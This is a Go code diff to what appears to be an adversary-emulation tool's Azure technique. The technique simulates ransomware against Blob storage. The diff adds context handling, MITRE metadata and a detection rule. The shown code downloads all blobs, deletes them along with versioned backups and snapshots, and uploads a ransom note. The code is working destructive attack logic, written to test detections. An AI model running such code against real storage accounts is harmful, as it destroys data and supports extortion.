@@ -71,46 +71,55 @@ Sample Blob storage event <code>DeleteBlob</code>, shortened for readability:
 }
 ` + codeBlock + `
 `,
-		Platform:                   stratus.Azure,
-		IsIdempotent:               false,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Impact},
+		Impact:                stratus.ImpactDestructive,
+		Platform:              stratus.Azure,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Impact},
+		MitreAttackTechniques: []string{"T1485"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"operationName": {"Microsoft.Storage/storageAccounts/listKeys/action"}},
+			},
+			Level:          stratus.DetectionLevelLow,
+			FalsePositives: []string{"Applications and administrators using shared key authorization"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
+		DetonateWithContext:        detonate,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	storageAccount := params["storage_account_name"]
 	//rg := params["resource_group_name"]
 
 	serviceURL := fmt.Sprintf("https://%s.blob.core.windows.net/", storageAccount)
 
 	azureConfig := providers.Azure()
-	client, err := utils.GetAzureBlobClient(serviceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions /*providers.Azure()*/, params)
+	client, err := utils.GetAzureBlobClient(ctx, serviceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions /*providers.Azure()*/, params)
 	if err != nil {
 		return fmt.Errorf("failed to instantiate Blob Client:  %w", err)
 	}
 
 	log.Println("Downloading Blobs...")
-	err = downloadAllBlobs(client)
+	err = downloadAllBlobs(ctx, client)
 	if err != nil {
 		return fmt.Errorf("unable to download blobs: %w", err)
 	}
 
 	log.Println("Deleting Blobs...")
-	err = deleteAllBlobs(client)
+	err = deleteAllBlobs(ctx, client)
 	if err != nil {
 		return fmt.Errorf("unable to delete blobs: %w", err)
 	}
 
 	log.Println("Deleting versioned Blob backups...")
-	err = deleteAllBlobsIncludingVersions(client)
+	err = deleteAllBlobsIncludingVersions(ctx, client)
 	if err != nil {
 		return fmt.Errorf("unable to delete blobs: %w", err)
 	}
 
 	log.Println("Uploading ransom note...")
-	err = utils.UploadBlob(client, RansomContainerName, RansomNoteFilename, strings.NewReader(RansomNoteContents))
+	err = utils.UploadBlob(ctx, client, RansomContainerName, RansomNoteFilename, strings.NewReader(RansomNoteContents))
 	if err != nil {
 		return fmt.Errorf("unable to create ransom note: %w", err)
 	}
@@ -119,20 +128,20 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func downloadAllBlobs(client *azblob.Client) error {
+func downloadAllBlobs(ctx context.Context, client *azblob.Client) error {
 	f, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
 	if err != nil {
 		return err
 	}
 	defer f.Close()
 
-	blobMap, err := utils.ListAllBlobVersions(client)
+	blobMap, err := utils.ListAllBlobVersions(ctx, client)
 	if err != nil {
 		return err
 	}
 	for containerName, versionMap := range blobMap {
 		for blobName := range versionMap {
-			_, err := client.DownloadFile(context.Background(), containerName, blobName, f, nil)
+			_, err := client.DownloadFile(ctx, containerName, blobName, f, nil)
 			if err != nil {
 				return fmt.Errorf("error when downloading blob %s in container %s: %w", blobName, containerName, err)
 			}
@@ -141,17 +150,17 @@ func downloadAllBlobs(client *azblob.Client) error {
 	return nil
 }
 
-func deleteAllBlobs(client *azblob.Client) error {
-	return deleteBlobsWithFilter(client, false)
+func deleteAllBlobs(ctx context.Context, client *azblob.Client) error {
+	return deleteBlobsWithFilter(ctx, client, false)
 }
 
-func deleteAllBlobsIncludingVersions(client *azblob.Client) error {
-	return deleteBlobsWithFilter(client, true)
+func deleteAllBlobsIncludingVersions(ctx context.Context, client *azblob.Client) error {
+	return deleteBlobsWithFilter(ctx, client, true)
 }
 
-func deleteBlobsWithFilter(client *azblob.Client, includeVersions bool) error {
+func deleteBlobsWithFilter(ctx context.Context, client *azblob.Client, includeVersions bool) error {
 
-	blobMap, err := utils.ListAllBlobVersions(client)
+	blobMap, err := utils.ListAllBlobVersions(ctx, client)
 	if err != nil {
 		return err
 	}
@@ -173,12 +182,12 @@ func deleteBlobsWithFilter(client *azblob.Client, includeVersions bool) error {
 						return fmt.Errorf("can't instantiate versioned client for blob %s in container %s: %w", blobName, containerName, err)
 					}
 					_, err = versionedBlobClient.Delete(
-						context.Background(),
+						ctx,
 						nil,
 					)
 				} else {
 					_, err = blobClient.Delete(
-						context.Background(),
+						ctx,
 						&blob.DeleteOptions{
 							DeleteSnapshots: to.Ptr(blob.DeleteSnapshotsOptionTypeInclude),
 						},